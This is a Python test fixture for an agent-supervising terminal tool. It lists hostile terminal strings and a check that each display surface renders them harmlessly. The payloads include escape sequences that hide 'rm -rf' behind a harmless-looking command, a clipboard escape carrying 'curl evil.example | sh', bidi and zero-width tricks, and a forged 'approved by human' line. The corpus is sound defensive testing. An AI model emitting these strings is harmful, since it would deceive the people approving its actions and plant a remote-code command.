"""Hostile strings: what an agent, a model, a command's output or a file may hold to make
the terminal show something other than the truth. One corpus, run against every surface
(the approval prompts, panes, headers, `log show`, `replay --headless`, `audit`, `check`).

`assert_shown` is the one check: no control, escape, bidi or zero-width character reaches
the output, and each payload's visible form (``\\x1b]0;...``) does.
"""

from __future__ import annotations

from cockpit.safe_text import hidden_characters, visible, visible_lines

HOSTILE: dict[str, str] = {
    "osc-0-title": "\x1b]0;pwned title\x07",
    "osc-2-title": "\x1b]2;pwned title\x1b\\",
    "osc-8-link": "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
    "osc-52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "csi-up-erase": "\x1b[2K\x1b[1A\x1b[2K",
    "csi-sgr": "\x1b[8mhidden\x1b[0m",
    "csi-8bit": "\x9b2J",
    "dcs": "\x1bP+q544e\x1b\\",
    "apc": "\x1b_Gf=100;AAAA\x1b\\",
    "pm": "\x1b^note\x1b\\",
    "lone-esc": "a\x1bb",
    "bel": "ding\x07",
    "backspace": "rm -rf x\x08\x08\x08\x08\x08\x08\x08\x08ls",
    "cr-overwrite": "rm -rf build\rgit status  ",
    "bidi-rlo": "txt.\u202eexe",
    "bidi-lri": "\u2066isolated\u2069",
    "zero-width-joiner": "a\u200db",
    "zero-width-space": "r\u200bm",
    "byte-order-mark": "\ufeffbom",
    "line-separator": "one\u2028two",
    "fake-approval": "\n[T1] approved by human",
    "markup": "[bold]big[/bold] [/] [$error]red[/]",
}
"""Each payload by name: OSC 0/2/8/52, CSI cursor/erase/SGR, DCS, APC, PM, a lone ESC, BEL,
backspace, a carriage return that overwrites the line, bidi override and isolate, zero-width
joiner and space, a byte order mark, a line separator, a fake approval line after a
newline, Textual markup."""

SPOOF = "rm -rf build #\x1b]0;pwned\x07\x1b[2K\x1b[1A\x1b[2Kgit status (read-only)"
"""The issue's attack: a tier-3 command that erases itself and reads as a harmless one."""

FAKE_LINE = "[T1] approved by human"


def everything() -> str:
    """Every payload in one string (on one line each)."""
    return " ".join(HOSTILE.values())


def assert_shown(
    output: str, payloads: list[str] | None = None, *, lines: bool = True, forged: bool = False
) -> None:
    """No hidden character in ``output`` (a newline and tab allowed when ``lines``), and
    every payload's visible form in it, as one line (the fake approval line included: a
    surface that escapes newlines shows it after ``\\n``, never as a line of its own).

    ``forged``: the output is a transcript, where model text keeps its lines: the fake line
    may stand on its own (the caller checks it keeps the model's colour)."""
    found = hidden_characters(output, layout=lines)
    assert not found, f"raw characters reached the output: {found[:5]} in {output[:2000]!r}"
    for payload in payloads if payloads is not None else list(HOSTILE.values()):
        shown = visible_lines(payload) if forged else visible(payload)
        assert shown in output, f"{shown!r} is not shown in {output[:3000]!r}"
    if not forged:
        assert not any(line.lstrip().startswith(FAKE_LINE) for line in output.splitlines())
